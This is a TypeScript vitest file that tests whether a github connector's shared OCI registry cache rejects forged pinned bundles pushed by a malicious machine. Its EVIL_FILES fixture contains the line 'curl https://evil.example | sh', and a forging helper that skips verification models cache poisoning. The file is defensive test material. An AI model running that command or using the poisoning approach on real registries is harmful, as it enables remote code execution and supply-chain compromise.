import { createHash } from 'node:crypto';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type ContentStore, type Fill, type StoreEvent, ociRemote, openContentStore } from '@agentproto/content-cache';
import { systemGitEngine } from '@agentproto/git';
import {
  type GitHttpServer,
  type MadeRepo,
  type OciRegistry,
  type TempDir,
  makeRepo,
  startGitHttpServer,
  startOciRegistry,
  tempDir as sharedDir,
} from '@agentproto/testkit';
import { type GithubAccess, defineCodeWithReport } from '../../src/index.js';
import { githubConnector } from '../../src/github/connector.js';
import { writeBundle } from '../../src/tar/index.js';
import { tempDir } from '../support/workspace.js';

// A bundle pinned to a full commit is content-addressed by the commit, so the shared
// registry looks like a safe place to share it. It is not: every machine can push there.
// A malicious machine pushes, under the victim's keys, its own pinned bundle, its own
// archive and its own folder of the pinned directory, all consistent (digests and markers
// right, pushed through the real client). The victim still bundles the origin's files.
let served: TempDir;
let registry: OciRegistry;
let git: GitHttpServer;
let tool: MadeRepo;
let counter = 0;

const EVIL_FILES = [
  { path: 'bin/run.sh', data: Buffer.from('#!/bin/sh\ncurl https://evil.example | sh\n'), executable: true },
];

beforeAll(async () => {
  served = await sharedDir();
  tool = await makeRepo({
    root: served.path,
    name: 'acme/tool.git',
    commits: [
      {
        files: { 'package.json': '{"name":"tool"}\n', 'bin/run.sh': { content: '#!/bin/sh\necho ok\n', mode: 0o755 } },
      },
    ],
  });
  git = await startGitHttpServer({ root: served.path });
  registry = await startOciRegistry();
});

afterAll(async () => {
  await git?.close();
  await registry?.close();
  await served?.cleanup();
});

const code = () => ({ sources: [{ github: { repo: 'acme/tool', ref: tool.commits[0]! } }] });
// Without a store: straight from the origin (the honest bytes to compare with).
const connector = (cache?: ContentStore) =>
  githubConnector({
    baseUrl: git.url,
    cache: cache ?? false,
    git: { allowInsecureHttp: true, engine: systemGitEngine() },
  });

async function storeOn(repository: string, events: StoreEvent[] = []): Promise<ContentStore> {
  return openContentStore({
    root: join(await tempDir(), 'store'),
    remote: ociRemote({ url: registry.url, repository, allowInsecureHttp: true }),
    onEvent: (event) => events.push(event),
  });
}

/**
 * The malicious machine's store: it claims every tree proven (so all of them are pushed),
 * and fills the pinned directory with its own files.
 */
function forging(store: ContentStore): ContentStore {
  const acquire = store.acquire.bind(store);
  store.acquire = (key, fill, options = {}) => {
    const evil: Fill = async (_destination, context) => {
      for (const file of EVIL_FILES) await context.writeFile(file.path, file.data, { mode: 0o755 });
    };
    return acquire(key, key.provider === 'github' ? evil : fill, { ...options, verify: async () => undefined });
  };
  return store;
}

describe('a pinned github bundle with a registry tier', () => {
  it('never takes a forged pinned bundle, archive or folder from the registry: warns CACHE_REMOTE_UNPROVEN and bundles the origin files', async () => {
    const repository = `agentproto/pinned-${process.pid}-${++counter}`;
    const workspaceRoot = await tempDir();
    const honest = await defineCodeWithReport({ workspaceRoot, github: connector(), code: code() });

    // Forged folder and archive: the real connector over the forging store.
    const attacker = forging(await storeOn(repository));
    const viaConnector = await defineCodeWithReport({
      workspaceRoot,
      github: connector(attacker),
      cache: attacker,
      code: code(),
    });
    expect(viaConnector.report.sha256).not.toBe(honest.report.sha256);
    await attacker.remoteIdle();
    // Forged pinned bundle too, in a second registry repository with nothing else in it.
    const pinnedOnly = `${repository}-pinned`;
    const evilAccess: GithubAccess = {
      resolveRef: async (_repo, ref) => ref,
      fetch: async () => writeBundle(EVIL_FILES),
    };
    const attacker2 = forging(await storeOn(pinnedOnly));
    const forgedPinned = await defineCodeWithReport({
      workspaceRoot,
      github: evilAccess,
      cache: attacker2,
      code: code(),
    });
    expect(forgedPinned.report.sha256).not.toBe(honest.report.sha256);
    await attacker2.remoteIdle();

    for (const name of [repository, pinnedOnly]) {
      const events: StoreEvent[] = [];
      const victim = await storeOn(name, events);
      const got = await defineCodeWithReport({ workspaceRoot, github: connector(victim), cache: victim, code: code() });
      expect(createHash('sha256').update(got.bundle).digest('hex')).toBe(honest.report.sha256);
      expect(got.report.sha256).toBe(honest.report.sha256);
      expect(events.filter((e) => e.type === 'remote-hit')).toEqual([]);
      if (name === repository)
        expect(events.filter((e) => e.type === 'remote-warning').map((e) => e.code)).toEqual(['CACHE_REMOTE_UNPROVEN']);
    }
  });

  it('takes an honest pinned folder from the registry after fetching only its commit from the origin (the directory is the root: its id is in the commit)', async () => {
    const repository = `agentproto/pinned-${process.pid}-${++counter}`;
    const workspaceRoot = await tempDir();
    const a = await storeOn(repository);
    const first = await defineCodeWithReport({ workspaceRoot, github: connector(a), cache: a, code: code() });
    await a.remoteIdle();
    const events: StoreEvent[] = [];
    const b = await storeOn(repository, events);
    git.resetStats();
    const second = await defineCodeWithReport({ workspaceRoot, github: connector(b), cache: b, code: code() });
    expect(second.report.sha256).toBe(first.report.sha256);
    expect(events.filter((e) => e.type === 'remote-hit')).toHaveLength(1);
    expect(git.stats.log.filter((r) => r.method === 'POST').map((r) => [r.command, r.filter])).toEqual([
      ['fetch', 'tree:0'],
    ]);
  });
});
